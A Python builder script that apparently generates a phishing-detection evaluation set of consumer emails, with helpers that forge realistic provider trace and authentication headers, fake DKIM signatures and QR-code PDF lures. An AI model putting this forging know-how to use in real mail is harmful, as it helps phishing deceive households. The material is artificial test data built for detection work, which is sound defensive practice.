#!/usr/bin/env python3
"""Blind evaluation set 30: US consumers and households, 2024-2026.

Mail as it reaches Gmail, Yahoo/AOL (and the ISP mailboxes Yahoo hosts:
att.net, bellsouth.net, verizon.net, cox.net), Outlook.com, iCloud, Comcast,
Spectrum and Optimum.  50 attacks (phishing of every kind seen by households,
a few malware carriers) and 25 legitimate messages from the same brands and
from families, churches and neighbourhood lists.

Everything is deterministic: fixed dates, hash-derived tokens, fixed
boundaries, so re-running the builder rewrites identical bytes.

    cd /work/main && .venv/bin/python samples/tools/build_blind30_samples.py
"""

from __future__ import annotations

import base64
import email.policy
import hashlib
import io
import os
import sys
import time
import zoneinfo
from datetime import datetime, timedelta, timezone
from email.parser import BytesParser
from email.utils import format_datetime
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]
MAIL = ROOT / "samples" / "mail"
MANIFEST = ROOT / "samples" / "tools" / "blind30_manifest.txt"
PACIFIC = zoneinfo.ZoneInfo("America/Los_Angeles")
UTC = timezone.utc

SAMPLES: list[tuple[str, str, str, bytes, str]] = []  # (cat, kind, slug, raw, description)


# --------------------------------------------------------------------------------------------
# deterministic tokens
# --------------------------------------------------------------------------------------------

def _stream(seed: str, n: int) -> bytes:
    out = b""
    counter = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}/{counter}".encode()).digest()
        counter += 1
    return out[:n]


def hexs(seed: str, n: int) -> str:
    return _stream(seed, (n + 1) // 2).hex()[:n]


def HEX(seed: str, n: int) -> str:
    return hexs(seed, n).upper()


def b64(seed: str, nbytes: int) -> str:
    return base64.b64encode(_stream(seed, nbytes)).decode()


def url64(seed: str, n: int) -> str:
    return base64.urlsafe_b64encode(_stream(seed, n)).decode().rstrip("=")[:n]


def alnum(seed: str, n: int) -> str:
    abc = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    return "".join(abc[b % 62] for b in _stream(seed, n))


def lower(seed: str, n: int) -> str:
    abc = "abcdefghijklmnopqrstuvwxyz0123456789"
    return "".join(abc[b % 36] for b in _stream(seed, n))


def digits(seed: str, n: int) -> str:
    return "".join(str(b % 10) for b in _stream(seed, n))


def num(seed: str, lo: int, hi: int) -> int:
    return lo + int.from_bytes(_stream(seed, 4), "big") % (hi - lo + 1)


def fold(prefix: str, value: str, width: int = 76, indent: str = "\t") -> str:
    """Hard-wrap a long token (signature, id) after ``prefix``, continuation lines indented."""
    first = width - len(prefix)
    lines = [prefix + value[:first]]
    rest = value[first:]
    step = width - len(indent)
    while rest:
        lines.append(indent + rest[:step])
        rest = rest[step:]
    return "\n".join(lines)


def wrap_list(prefix: str, items: list[str], sep: str, width: int = 76, indent: str = "\t") -> str:
    """Join ``items`` with ``sep``, folding between items."""
    lines = []
    cur = prefix
    for i, item in enumerate(items):
        piece = item + (sep if i < len(items) - 1 else "")
        if len(cur) + len(piece) > width and cur.strip():
            lines.append(cur.rstrip())
            cur = indent + piece
        else:
            cur += piece
    lines.append(cur)
    return "\n".join(lines)


def enc(s: str, mode: str = "B") -> str:
    """RFC 2047 encoded-word for non-ASCII header text (ASCII passes through)."""
    try:
        s.encode("ascii")
        return s
    except UnicodeEncodeError:
        pass
    if mode == "B":
        words = []
        chunk = b""
        for ch in s:
            b = ch.encode("utf-8")
            if len(chunk) + len(b) > 36:
                words.append(chunk)
                chunk = b""
            chunk += b
        words.append(chunk)
        return "\n ".join(f"=?UTF-8?B?{base64.b64encode(w).decode()}?=" for w in words)
    words = []
    chunk = ""
    for ch in s:
        if ch == " ":
            piece = "_"
        elif ch.isascii() and (ch.isalnum() or ch in ".,-!/:'"):
            piece = ch
        else:
            piece = "".join(f"={b:02X}" for b in ch.encode("utf-8"))
        if len(chunk) + len(piece) > 58:
            words.append(chunk)
            chunk = ""
        chunk += piece
    words.append(chunk)
    return "\n ".join(f"=?UTF-8?Q?{w}?=" for w in words)


def addr(name: str, address: str) -> str:
    if not name:
        return address
    try:
        name.encode("ascii")
        if any(c in name for c in ',.;:@()<>[]"'):
            return f'"{name}" <{address}>'
        return f"{name} <{address}>"
    except UnicodeEncodeError:
        return f"{enc(name)} <{address}>"


# --------------------------------------------------------------------------------------------
# time
# --------------------------------------------------------------------------------------------

def T(s: str) -> datetime:
    """'2025-03-04 09:15:22 -0500' -> aware datetime."""
    return datetime.strptime(s, "%Y-%m-%d %H:%M:%S %z")


def fmt(dt: datetime) -> str:
    return format_datetime(dt)


def pacific(dt: datetime) -> str:
    local = dt.astimezone(PACIFIC)
    return f"{format_datetime(local)} ({local.tzname()})"


def utc(dt: datetime) -> str:
    return format_datetime(dt.astimezone(UTC))


def later(dt: datetime, seconds: int) -> datetime:
    return dt + timedelta(seconds=seconds)


def epoch(dt: datetime) -> int:
    return int(dt.timestamp())


# --------------------------------------------------------------------------------------------
# DKIM
# --------------------------------------------------------------------------------------------

class Sig:
    """One DKIM-Signature: renders the header and remembers its b= for Authentication-Results."""

    def __init__(self, d: str, s: str, h: list[str], seed: str, when: datetime, bits: int = 2048,
                 c: str = "relaxed/relaxed", result: str = "pass", i: str = "", x: int = 0, q: bool = False,
                 algo: str = "rsa-sha256"):
        self.d, self.s, self.h, self.seed, self.when = d, s, h, seed, when
        self.bits, self.c, self.result, self.i, self.x, self.q, self.algo = bits, c, result, i, x, q, algo
        nbytes = {2048: 256, 1024: 128, 64: 64}[bits]
        self.b = b64(seed + "/b/" + d, nbytes)
        self.bh = b64(seed + "/bh/" + d, 32)

    def header(self) -> str:
        t = epoch(self.when)
        first = f"DKIM-Signature: v=1; a={self.algo}; c={self.c}; d={self.d};"
        second = f"\ts={self.s}; t={t};"
        if self.x:
            second += f" x={t + self.x};"
        if self.i:
            second += f" i={self.i};"
        if self.q:
            second += " q=dns/txt;"
        hline = wrap_list("\th=", self.h, ":")
        return "\n".join([first, second, hline + ";", f"\tbh={self.bh};", fold("\tb=", self.b, indent="\t ")])

    @property
    def short(self) -> str:
        return self.b[:8]


# --------------------------------------------------------------------------------------------
# delivery: the recipient provider's headers
# --------------------------------------------------------------------------------------------

YAHOO_HOSTED = {"yahoo.com", "aol.com", "att.net", "bellsouth.net", "sbcglobal.net", "verizon.net", "cox.net",
                "ymail.com", "rocketmail.com"}
OUTLOOK = {"outlook.com", "hotmail.com", "live.com", "msn.com"}
ICLOUD = {"icloud.com", "me.com", "mac.com"}
SPECTRUM = {"charter.net", "rr.com", "twc.com", "roadrunner.com", "tampabay.rr.com", "nc.rr.com", "socal.rr.com"}


def provider(rcpt: str) -> str:
    dom = rcpt.split("@")[1].lower()
    if dom == "gmail.com":
        return "gmail"
    if dom in YAHOO_HOSTED:
        return "yahoo"
    if dom in OUTLOOK:
        return "outlook"
    if dom in ICLOUD:
        return "icloud"
    if dom == "comcast.net":
        return "comcast"
    if dom in SPECTRUM or dom.endswith(".rr.com"):
        return "spectrum"
    if dom == "optonline.net":
        return "optimum"
    raise ValueError(rcpt)


def _mfdom(mf: str) -> str:
    return mf.split("@")[-1] if mf else ""


def delivery(rcpt: str, when: datetime, helo: str, ip: str, rdns: str, mf: str, sigs: list[Sig],
             spf: str, dmarc: str, hfrom: str, policy: str = "NONE", seed: str = "",
             sp: str | None = None, dkim_none_note: bool = True, tls: bool = True) -> str:
    """Header block the recipient's provider writes on top: trace, authentication, its own markers."""
    kind = provider(rcpt)
    arrive = later(when, num(seed + "delay", 2, 38))
    mfd = _mfdom(mf)
    sp = sp or policy
    if kind == "gmail":
        return _gmail(rcpt, arrive, helo, ip, rdns, mf, sigs, spf, dmarc, hfrom, policy, sp, seed, tls)
    if kind == "yahoo":
        return _yahoo(rcpt, arrive, helo, ip, rdns, mf, mfd, sigs, spf, dmarc, hfrom, policy, seed)
    if kind == "outlook":
        return _outlook(rcpt, arrive, helo, ip, rdns, mf, mfd, sigs, spf, dmarc, hfrom, policy, seed)
    if kind == "icloud":
        return _icloud(rcpt, arrive, helo, ip, rdns, mf, mfd, sigs, spf, dmarc, hfrom, policy, seed)
    if kind == "comcast":
        return _comcast(rcpt, arrive, helo, ip, rdns, mf, mfd, sigs, spf, dmarc, hfrom, policy, seed)
    if kind == "spectrum":
        return _spectrum(rcpt, arrive, helo, ip, rdns, mf, mfd, sigs, spf, dmarc, hfrom, policy, seed)
    return _optimum(rcpt, arrive, helo, ip, rdns, mf, mfd, sigs, spf, dmarc, hfrom, policy, seed)


def _spf_phrase(host: str, spf: str, mf: str, ip: str) -> str:
    who = f"domain of {mf}" if mf else f"domain of postmaster@{host}"
    return {
        "pass": f"({host}: {who} designates {ip} as permitted sender)",
        "softfail": f"({host}: domain of transitioning {mf} does not designate {ip} as permitted sender)",
        "fail": f"({host}: domain of {mf} does not designate {ip} as permitted sender)",
        "neutral": f"({host}: {ip} is neither permitted nor denied by best guess record for domain of {mf})",
        "none": f"({host}: {who} does not designate permitted sender hosts)",
        "temperror": f"({host}: error in processing during lookup of {mf}: DNS error)",
    }[spf]


def _gmail(rcpt, arrive, helo, ip, rdns, mf, sigs, spf, dmarc, hfrom, policy, sp, seed, tls):
    ipv6 = f"2002:a05:{hexs(seed + 'g1', 4)}:{hexs(seed + 'g2', 4)}:b0:{hexs(seed + 'g3', 3)}:{hexs(seed + 'g4', 4)}"
    smtp_id = f"{lower(seed + 'gid', 6)}csp{digits(seed + 'gn', 7)}"
    mx_id = (f"{hexs(seed + 'mxid', 13)}-{hexs(seed + 'mxid2', 11)}si{digits(seed + 'mxd', 8)}{lower(seed + 'mxe', 3)}"
             f".{num(seed + 'mxn', 100, 999)}.{arrive.astimezone(PACIFIC).strftime('%Y.%m.%d.%H.%M.%S')}")
    ar = ["mx.google.com;"]
    for s in sigs:
        ar.append(f"       dkim={s.result} header.i={s.i or '@' + s.d} header.s={s.s} header.b={s.short};")
    ar.append(f"       spf={spf} {_spf_phrase('google.com', spf, mf, ip)} smtp.mailfrom={mf or helo};")
    if dmarc in ("pass", "fail"):
        dis = "NONE" if dmarc == "pass" or policy == "NONE" else ("REJECT" if policy == "REJECT" else "QUARANTINE")
        ar.append(f"       dmarc={dmarc} (p={policy} sp={sp} dis={dis}) header.from={hfrom}")
    else:
        ar[-1] = ar[-1].rstrip(";")
    ar_text = "\n".join(ar)
    rdns_part = f"{rdns}. [{ip}]" if rdns else f"[{ip}]"
    via = "ESMTPS" if tls else "ESMTP"
    tls_line = "        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n" if tls else ""
    if helo.startswith("mail-sor-") or helo.startswith("mail-"):
        if rdns.endswith("google.com"):
            tls_line = "        (Google Transport Security);\n"
            via = "SMTPS"
    lines = [
        f"Delivered-To: {rcpt}",
        f"Received: by {ipv6} with SMTP id {smtp_id};\n        {pacific(later(arrive, 1))}",
        "X-Google-Smtp-Source: AGHT+I" + b64(seed + "gss", 60).rstrip("="),
        f"X-Received: by {ipv6.replace(':b0:', ':b0:')[:-2]}{hexs(seed + 'xr', 2)} with SMTP id {lower(seed + 'xr1', 12)}.{num(seed + 'xr2', 10, 99)}.{epoch(arrive) * 1000 + num(seed + 'xr3', 100, 999)};\n        {pacific(later(arrive, 1))}",
        f"ARC-Seal: i=1; a=rsa-sha256; t={epoch(arrive)}; cv=none;\n        d=google.com; s=arc-20240605;\n"
        + fold("        b=", b64(seed + "arcs", 256), indent="         "),
        "ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s=arc-20240605;\n"
        "        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n"
        f"        bh={b64(seed + 'arcbh', 32)};\n"
        f"        fh={b64(seed + 'arcfh', 32)};\n"
        + fold("        b=", b64(seed + "arcm", 256), indent="         "),
        "ARC-Authentication-Results: i=1; " + ar_text,
        f"Return-Path: <{mf}>" if mf else "Return-Path: <>",
        f"Received: from {helo} ({rdns_part})\n        by mx.google.com with {via} id {mx_id}\n        for <{rcpt}>\n"
        f"{tls_line}        {pacific(arrive)}",
        f"Received-SPF: {spf} {_spf_phrase('google.com', spf, mf, ip)} client-ip={ip};",
        "Authentication-Results: " + ar_text,
    ]
    return "\n".join(lines)


def _yahoo(rcpt, arrive, helo, ip, rdns, mf, mfd, sigs, spf, dmarc, hfrom, policy, seed):
    dom = rcpt.split("@")[1]
    dc = ["bf2", "gq1", "ne1", "bf1"][num(seed + "ydc", 0, 3)]
    atlas = f"atlas{num(seed + 'yat', 101, 338)}.{'aol' if dom == 'aol.com' else 'free'}.mail.{dc}.yahoo.com"
    inner = f"10.{num(seed + 'ya', 196, 217)}.{num(seed + 'yb', 1, 254)}.{num(seed + 'yc', 1, 254)}"
    ar = [f"Authentication-Results: {atlas};"]
    for s in sigs:
        ar.append(f" dkim={'perm_fail' if s.result == 'fail' else s.result} header.i={s.i or '@' + s.d} header.s={s.s};")
    if not sigs:
        ar.append(" dkim=unknown;")
    ar.append(f" spf={spf} smtp.mailfrom={mfd or helo};")
    if dmarc in ("pass", "fail"):
        ar.append(f" dmarc={dmarc}(p={policy}) header.from={hfrom};")
    else:
        ar.append(f" dmarc=unknown header.from={hfrom};")
    spf_txt = {"pass": f"pass (domain of {mfd} designates {ip} as permitted sender)",
               "softfail": f"softfail (domain of transitioning {mfd} does not designate {ip} as permitted sender)",
               "fail": f"fail (domain of {mfd} does not designate {ip} as permitted sender)",
               "neutral": f"neutral (domain of {mfd} is neither permitted nor denied)",
               "none": f"none (domain of {mfd} does not designate permitted sender hosts)"}[spf]
    lines = [
        f"Return-Path: <{mf}>" if mf else "Return-Path: <>",
        f"Received: from {ip} (EHLO {helo})\n by {inner} with SMTPs\n (version=TLS1_3 cipher=TLS_AES_128_GCM_SHA256);\n {utc(arrive)}",
        f"X-Originating-Ip: [{ip}]",
        f"Received-SPF: {spf_txt}",
        "\n".join(ar),
        f"X-Apparently-To: {rcpt}; {utc(arrive)}",
        fold("X-YMailISG: ", url64(seed + "isg", 300).replace("-", "."), indent=" "),
    ]
    return "\n".join(lines)


def _outlook(rcpt, arrive, helo, ip, rdns, mf, mfd, sigs, spf, dmarc, hfrom, policy, seed):
    box = f"{['PH0P220MB', 'SA1P223MB', 'DM4P223MB', 'MN0P220MB'][num(seed + 'ob', 0, 3)]}{num(seed + 'obn', 1000, 1999)}"
    region = {"PH0": "NAMP220", "SA1": "NAMP223", "DM4": "NAMP223", "MN0": "NAMP220"}[box[:3]]
    fe = f"{['BN8NAM12', 'CH1PEPF', 'DS3PEPF', 'SN1PEPF'][num(seed + 'ofe', 0, 3)]}{HEX(seed + 'ofen', 8)}"
    ca = f"{['BYAPR05CA', 'MW4PR03CA', 'CH0PR07CA', 'SJ0PR13CA'][num(seed + 'oca', 0, 3)]}{num(seed + 'ocan', 1000, 9999):04d}"
    build = "15.20.8" + str(num(seed + "obld", 100, 999)) + "." + str(num(seed + "obld2", 10, 40))
    dk = ";".join([f" dkim={s.result} ({'signature was verified' if s.result == 'pass' else 'body hash did not verify'}) header.d={s.d}" for s in sigs]) or " dkim=none (message not signed) header.d=none"
    if dmarc == "pass":
        dm = f"dmarc=pass action=none header.from={hfrom};compauth=pass reason=100"
    elif dmarc == "fail":
        action = {"REJECT": "oreject", "QUARANTINE": "quarantine", "NONE": "none"}[policy]
        dm = f"dmarc=fail action={action} header.from={hfrom};compauth=fail reason=000"
    else:
        dm = f"dmarc=none action=none header.from={hfrom};compauth=softpass reason=201"
    spf_ar = f"spf={spf} (sender IP is {ip}) smtp.mailfrom={mfd or helo};"
    scl = 1 if dmarc == "pass" else 5
    lines = [
        f"Received: from {box}.{region}.PROD.OUTLOOK.COM (::1) by\n {box}.{region}.PROD.OUTLOOK.COM with HTTPS; {utc(later(arrive, 1))}",
        f"Received: from {ca}.namprd{num(seed + 'onp', 2, 18):02d}.prod.outlook.com (2603:10b6:{hexs(seed + 'v6a', 3)}:{hexs(seed + 'v6b', 2)}::{num(seed + 'v6c', 10, 40)})\n"
        f" by {box}.{region}.PROD.OUTLOOK.COM (2603:10b6:510:{hexs(seed + 'v6d', 3)}::{num(seed + 'v6e', 5, 19)}) with\n"
        f" Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build}; {utc(later(arrive, 1))}",
        f"Received: from {fe}.namprd{num(seed + 'onp2', 2, 18):02d}.prod.outlook.com\n (2603:10b6:a03:{hexs(seed + 'v6f', 2)}:cafe::{hexs(seed + 'v6g', 2)}) by {ca}.outlook.office365.com\n"
        f" (2603:10b6:{hexs(seed + 'v6a', 3)}:{hexs(seed + 'v6b', 2)}::{num(seed + 'v6c', 10, 40)}) with Microsoft SMTP Server (version=TLS1_3,\n"
        f" cipher=TLS_AES_256_GCM_SHA384) id {build} via Frontend Transport; {utc(arrive)}",
        f"Authentication-Results: {spf_ar}{dk};{dm}",
        f"Received-SPF: {spf.capitalize()} (protection.outlook.com: domain of {mfd or helo}\n "
        + {"pass": "designates", "softfail": "does not designate", "fail": "does not designate",
           "neutral": "does not designate", "none": "does not designate"}[spf]
        + f" {ip} as permitted sender)\n receiver=protection.outlook.com; client-ip={ip}; helo={helo};"
        + (" pr=C" if spf == "pass" else ""),
        f"Received: from {helo} ({ip}) by\n {fe}.mail.protection.outlook.com (10.167.{num(seed + 'op1', 16, 250)}.{num(seed + 'op2', 2, 250)}) with Microsoft SMTP\n"
        f" Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {build}\n via Frontend Transport; {utc(arrive)}",
        f"X-IncomingTopHeaderMarker: OriginalChecksum:{HEX(seed + 'ochk', 64)};\n UpperCasedChecksum:{HEX(seed + 'ochk2', 64)};SizeAsReceived:{num(seed + 'osz', 6000, 19000)};Count:{num(seed + 'ocnt', 14, 40)}",
        f"X-MS-Exchange-Organization-ExpirationStartTime: {arrive.astimezone(UTC).strftime('%d %b %Y %H:%M:%S.')}{digits(seed + 'oms', 4)} (UTC)",
        "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
        "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
        "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
        "X-MS-Exchange-Organization-Network-Message-Id:\n " + f"{hexs(seed + 'nm1', 8)}-{hexs(seed + 'nm2', 4)}-{hexs(seed + 'nm3', 4)}-{hexs(seed + 'nm4', 4)}-{hexs(seed + 'nm5', 12)}",
        f"X-EOPAttributedMessage: 0",
        f"X-MS-Exchange-Organization-MessageDirectionality: Incoming",
        f"X-MS-PublicTrafficType: Email",
        f"X-MS-Exchange-Organization-AuthSource:\n {fe}.namprd{num(seed + 'onp2', 2, 18):02d}.prod.outlook.com",
        "X-MS-Exchange-Organization-AuthAs: Anonymous",
        f"X-MS-Exchange-Organization-SCL: {scl}",
        f"X-Microsoft-Antispam: BCL:{0 if scl == 1 else 1};ARA:{digits(seed + 'ara', 10)}|{digits(seed + 'ara2', 4)}99{digits(seed + 'ara3', 3)}",
    ]
    return "\n".join(lines)


def _icloud(rcpt, arrive, helo, ip, rdns, mf, mfd, sigs, spf, dmarc, hfrom, policy, seed):
    mx = f"p{num(seed + 'ic', 0, 1):02d}-icloudmta-mx-inbound-{lower(seed + 'icm', 4)}-{num(seed + 'icn', 1, 9)}"
    lines = [f"Received: from {mx}.mx.icloud.com by\n p{num(seed + 'ic2', 33, 99)}-mailgateway-smtp-{lower(seed + 'icg', 6)}-{num(seed + 'icgn', 1, 9)}.p{num(seed + 'ic', 0, 1):02d}.icloud.com"
             f" with SMTP; {utc(later(arrive, 1))}"]
    lines.append(f"Return-Path: <{mf}>" if mf else "Return-Path: <>")
    if dmarc in ("pass", "fail"):
        lines.append(f"Authentication-Results: dmarc.icloud.com; dmarc={dmarc} header.from={hfrom}")
    else:
        lines.append(f"Authentication-Results: dmarc.icloud.com; dmarc=none header.from={hfrom}")
    for s in sigs:
        lines.append(f"Authentication-Results: dkim-verifier.icloud.com;\n\tdkim={s.result} ({s.bits if s.bits != 64 else 256}-bit key) header.d={s.d} header.i={s.i or '@' + s.d} header.b={s.short}")
    if not sigs:
        lines.append("Authentication-Results: dkim-verifier.icloud.com; dkim=none")
    lines.append(f"Authentication-Results: spf.icloud.com; spf={spf} {_spf_phrase('spf.icloud.com', spf, mf, ip)} smtp.mailfrom={mf or helo}")
    lines.append(f"Received-SPF: {spf} {_spf_phrase('spf.icloud.com', spf, mf, ip)}\n receiver=spf.icloud.com; client-ip={ip}; helo={helo}; envelope-from={mf}")
    lines.append(f"Received: from {helo} ({rdns or 'unknown'} [{ip}])\n by {mx}.mx.icloud.com (Postfix) with ESMTPS id {HEX(seed + 'icq', 10)}\n for <{rcpt}>; {utc(arrive)}")
    lines.append(f"X-Proofpoint-ORIG-GUID: {alnum(seed + 'ppg', 32)}")
    lines.append(f"X-Proofpoint-GUID: {alnum(seed + 'ppg', 32)}")
    score = 0 if dmarc == "pass" else num(seed + "ppsc", 0, 40)
    lines.append(f"X-Proofpoint-Spam-Details: rule=notspam policy=default score={score} mlxscore={score} bulkscore=0\n spamscore={score} clxscore={num(seed + 'clx', 1000, 1030)} phishscore=0 suspectscore=0 adultscore=0 malwarescore=0\n mlxlogscore={num(seed + 'mlx', 100, 999)} lowpriorityscore=0 impostorscore=0 classifier=spam adjust=0\n reason=mlx scancount=1 engine=8.19.0-2308100000 definitions=main-{arrive.strftime('%y%m%d')}0{num(seed + 'def', 10, 99)}")
    return "\n".join(lines)


def _comcast(rcpt, arrive, helo, ip, rdns, mf, mfd, sigs, spf, dmarc, hfrom, policy, seed):
    ima = f"resimta-{['a1p', 'a2p', 'h1p', 'h2p', 'c1p'][num(seed + 'cc', 0, 4)]}-{num(seed + 'ccn', 100000, 999999)}.sys.comcast.net"
    dk = " ".join(f"dkim={s.result} header.d={s.d} header.s={s.s} header.b={s.short};" for s in sigs) or "dkim=none;"
    dm = f"dmarc={dmarc} (p={policy.lower()} dis={'none' if dmarc != 'fail' else policy.lower()}) header.from={hfrom}" if dmarc in ("pass", "fail") else f"dmarc=none header.from={hfrom}"
    lines = [
        f"Return-Path: <{mf}>" if mf else "Return-Path: <>",
        f"Received: from {ima} ([96.102.{num(seed + 'cci', 19, 250)}.{num(seed + 'cci2', 2, 250)}])\n\tby resomta-{['a1p', 'h2p'][num(seed + 'cco', 0, 1)]}-{num(seed + 'ccon', 100000, 999999)}.sys.comcast.net with ESMTP\n\tid {alnum(seed + 'ccid', 14)}; {utc(later(arrive, 1))}",
        f"Received: from {helo} ([{ip}])\n\tby {ima} with ESMTPS\n\tid {alnum(seed + 'ccid2', 14)}; {utc(arrive)}",
        fold("X-Xfinity-VAAS: ", "gggruggvucftvghtrhhoucdtuddrgeefuddr" + lower(seed + "vaas", 60), indent="\t"),
        f"X-Xfinity-VMeta: sc={'0.00' if dmarc == 'pass' else '%d.%02d' % (num(seed + 'vs', 0, 60), num(seed + 'vs2', 0, 99))};st=legit",
        f"Authentication-Results: {ima};\n\tspf={spf} smtp.mailfrom={mf or helo};\n\t{dk}\n\t{dm}",
    ]
    return "\n".join(lines)


def _spectrum(rcpt, arrive, helo, ip, rdns, mf, mfd, sigs, spf, dmarc, hfrom, policy, seed):
    host = f"dnvrco-cmimta{num(seed + 'sp', 10, 40):02d}.charter.net"
    dk = " ".join(f"dkim={s.result} header.d={s.d} header.s={s.s};" for s in sigs) or "dkim=none;"
    dm = f"dmarc={dmarc} (p={policy.lower()}) header.from={hfrom}" if dmarc in ("pass", "fail") else f"dmarc=none header.from={hfrom}"
    lines = [
        f"Return-Path: <{mf}>" if mf else "Return-Path: <>",
        f"Received: from {helo} ([{ip}])\n\tby {host} with ESMTPS\n\tid {alnum(seed + 'spid', 16)}; {utc(arrive)}",
        f"Authentication-Results: {host}; spf={spf} smtp.mailfrom={mf or helo};\n\t{dk} {dm}",
        f"X-Authority-Analysis: v=2.4 cv={alnum(seed + 'cv', 10)}= c=1 sm=1 tr=0\n a={alnum(seed + 'aa', 22)}==:117 a={alnum(seed + 'ab', 22)}==:17\n a={alnum(seed + 'ac', 10)}:10 a={alnum(seed + 'ad', 20)}:21",
        f"X-CM-Score: 0.00",
        f"X-CNFS-Analysis: v=2.4 cv={alnum(seed + 'cnf', 10)}= c=1 sm=1 tr=0",
    ]
    return "\n".join(lines)


def _optimum(rcpt, arrive, helo, ip, rdns, mf, mfd, sigs, spf, dmarc, hfrom, policy, seed):
    host = f"mta-in-{num(seed + 'op', 1, 9):02d}.mail.optimum.net"
    dk = "; ".join(f"dkim={s.result} header.d={s.d} header.s={s.s} header.b={s.short}" for s in sigs) or "dkim=none"
    dm = f"dmarc={dmarc} (p={policy.lower()}) header.from={hfrom}" if dmarc in ("pass", "fail") else f"dmarc=none header.from={hfrom}"
    lines = [
        f"Return-Path: <{mf}>" if mf else "Return-Path: <>",
        f"Received: from {helo} ({rdns or 'unknown'} [{ip}])\n\tby {host} (Postfix) with ESMTPS id 4{HEX(seed + 'opq', 11)}\n\tfor <{rcpt}>; {utc(arrive)}",
        f"Authentication-Results: {host};\n\t{dk};\n\tspf={spf} smtp.mailfrom={mf or helo};\n\t{dm}",
        f"X-Virus-Scanned: amavis at optimum.net",
    ]
    return "\n".join(lines)


# --------------------------------------------------------------------------------------------
# assembling a message
# --------------------------------------------------------------------------------------------

def build(*, rcpt: str, when: datetime, helo: str, ip: str, rdns: str, mf: str, spf: str, dmarc: str,
          hfrom: str, policy: str = "NONE", sigs: list[Sig] | None = None, hops: list[str] | None = None,
          pre: list[str] | None = None, headers: str, body, seed: str, sp: str | None = None) -> bytes:
    """Provider block, then the sender's own hops, then pre-headers (DKIM, ESP markers), then ``headers``."""
    sigs = sigs or []
    top = delivery(rcpt, when, helo, ip, rdns, mf, sigs, spf, dmarc, hfrom, policy, seed, sp)
    parts = [top]
    parts += hops or []
    parts += [s.header() for s in sigs]
    parts += pre or []
    parts.append(headers.strip("\n"))
    return message("\n".join(parts), body)


def add(cat: str, kind: str, slug: str, raw: bytes, description: str) -> None:
    assert cat in {"phishing", "malware", "clean", "bulk"}, cat
    assert kind in {"phish", "legit", "bulk"}, kind
    assert (kind == "phish") == (cat in {"phishing", "malware"})
    assert (kind == "bulk") == (cat == "bulk")
    assert all(slug != s[2] for s in SAMPLES), slug
    SAMPLES.append((cat, kind, slug, raw, description))


def alt(plain: str, html: str, boundary: str, charset: str = "utf-8", enc_: str = "quoted-printable") -> Multi:
    return Multi("alternative", boundary, [text(plain, "plain", enc_, charset), text(html, "html", enc_, charset)])


def mixed(boundary: str, parts: list) -> Multi:
    return Multi("mixed", boundary, parts)


def related(boundary: str, parts: list) -> Multi:
    return Multi("related", boundary, parts, params=' type="text/html";')


def bnd(style: str, seed: str) -> str:
    """Boundaries in the style of the sending software."""
    if style == "gmail":
        return f"000000000000{hexs(seed, 16)}"
    if style == "outlook":
        return f"_000_{alnum(seed, 34).upper()}namp_"
    if style == "apple":
        return f"Apple-Mail={HEX(seed + '1', 8)}-{HEX(seed + '2', 4)}-{HEX(seed + '3', 4)}-{HEX(seed + '4', 4)}-{HEX(seed + '5', 12)}"
    if style == "yahoo":
        return f"----=_Part_{num(seed, 100000, 9999999)}_{num(seed + 'b', 100000000, 2099999999)}.{num(seed + 'c', 1700000000000, 1769999999999)}"
    if style == "sfmc":
        return f"----msg_border_{alnum(seed, 10)}"
    if style == "sendgrid":
        return f"{hexs(seed, 64)}"
    if style == "ses":
        return f"----=_Part_{num(seed, 1000000, 9999999)}_{num(seed + 'b', 100000000, 2099999999)}.{num(seed + 'c', 1700000000000, 1769999999999)}"
    if style == "php":
        return f"b1_{alnum(seed, 43)}"
    if style == "tbird":
        return f"------------{alnum(seed, 24)}"
    return f"=_{hexs(seed, 28)}"


def list_unsub(mailto: str, https: str, one_click: bool = True) -> list[str]:
    out = [f"List-Unsubscribe: <{mailto}>,\n <{https}>"] if mailto else [f"List-Unsubscribe: <{https}>"]
    if one_click:
        out.append("List-Unsubscribe-Post: List-Unsubscribe=One-Click")
    return out


def qr_pdf(lines: list[str], url: str, title: str, author: str = "", below: list[str] | None = None) -> bytes:
    """A one-page PDF: text lines, then a QR code image of ``url`` (no link annotation), then more text."""
    import segno
    import zlib

    qr = segno.make(url, error="m", micro=False)
    scale, border = 5, 4
    size = len(qr.matrix) + 2 * border
    pixels = bytearray()
    for y in range(size * scale):
        r = y // scale - border
        row_ = bytearray()
        for x in range(size):
            c = x - border
            dark = 0 <= r < len(qr.matrix) and 0 <= c < len(qr.matrix) and qr.matrix[r][c]
            row_ += (b"\x00" if dark else b"\xff") * scale
        pixels += row_
    image = zlib.compress(bytes(pixels), 9)
    dim = size * scale
    content = ["BT", "/F1 11 Tf", "14 TL", "56 780 Td"]
    for line in lines:
        content.append(f"({files._pdf_escape(line)}) Tj T*")
    content.append("ET")
    top = 780 - 14 * len(lines) - 20
    draw = 170
    content.append(f"q {draw} 0 0 {draw} 56 {top - draw} cm /Im1 Do Q")
    content += ["BT", "/F1 10 Tf", "13 TL", f"56 {top - draw - 24} Td"]
    for line in below or []:
        content.append(f"({files._pdf_escape(line)}) Tj T*")
    content.append("ET")
    stream = "\n".join(content).encode("latin-1")
    objects = files.image_page(stream, image, dim, dim, "FlateDecode")
    objects.append(f"<< /Title ({files._pdf_escape(title)}) /Author ({files._pdf_escape(author)}) "
                   f"/Producer (Skia/PDF m126) /CreationDate (D:20250314093000-05'00') >>".encode())
    return files.pdf_file(objects, len(objects))


def render_png(lines: list[tuple[str, int]], size: tuple[int, int], bg=(255, 255, 255), seed: int = 0,
               bars: list[tuple[int, int, int, int, tuple[int, int, int]]] | None = None) -> bytes:
    """A flat PNG with coloured bars and text lines ((text, y)), as image-only lures embed them."""
